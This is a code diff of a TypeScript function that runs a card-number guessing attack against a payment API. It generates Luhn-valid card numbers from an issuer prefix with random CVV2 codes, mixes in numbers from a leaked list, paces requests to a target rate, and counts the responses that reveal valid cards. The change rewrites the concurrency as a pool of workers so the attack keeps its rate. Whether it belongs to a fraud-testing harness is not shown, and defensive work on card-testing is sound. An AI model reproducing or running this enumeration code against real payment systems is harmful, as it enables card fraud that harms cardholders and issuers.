@@ -40,23 +40,23 @@ async function guess({
   const answers: Record<string, number> = {};
   let found = 0;
   const startedMs = performance.now();
-  const underWay = new Set<Promise<void>>();
-  for (let sent = 0; sent < guesses; sent += 1) {
-    const dueMs = startedMs + (sent * 1000) / ratePerSecond - performance.now();
-    if (dueMs > 1) await until(dueMs);
-    if (underWay.size >= 4 * ratePerSecond) await Promise.race(underWay);
-    const aimed = leaked.length > 0 && sent % 100 === 0;
-    const number = aimed
-      ? (leaked[randomInt(leaked.length)] ?? '')
-      : completeLuhn(iin + digits(15 - iin.length));
-    const call = ask(api, { cardId: '', number, expiry, cvv2: digits(3) }).then((answer) => {
+  let next = 0;
+  /** Sends one guess after the other, each at its time or as soon as the one before is answered. */
+  const guesser = async (): Promise<void> => {
+    for (let place = next++; place < guesses; place = next++) {
+      const dueMs = startedMs + (place * 1000) / ratePerSecond - performance.now();
+      if (dueMs > 1) await until(dueMs);
+      const aimed = leaked.length > 0 && place % 100 === 0;
+      const number = aimed
+        ? (leaked[randomInt(leaked.length)] ?? '')
+        : completeLuhn(iin + digits(15 - iin.length));
+      const answer = await ask(api, { cardId: '', number, expiry, cvv2: digits(3) });
       answers[answer] = (answers[answer] ?? 0) + 1;
       if (!aimed && telling(answer)) found += 1;
-      underWay.delete(call);
-    });
-    underWay.add(call);
-  }
-  await Promise.all(underWay);
+    }
+  };
+  // An answer that tells nothing takes a quarter of a second: so many at once keep up the rate.
+  await Promise.all(Array.from({ length: Math.ceil(ratePerSecond) }, guesser));
   return { answers, found };
 }
 
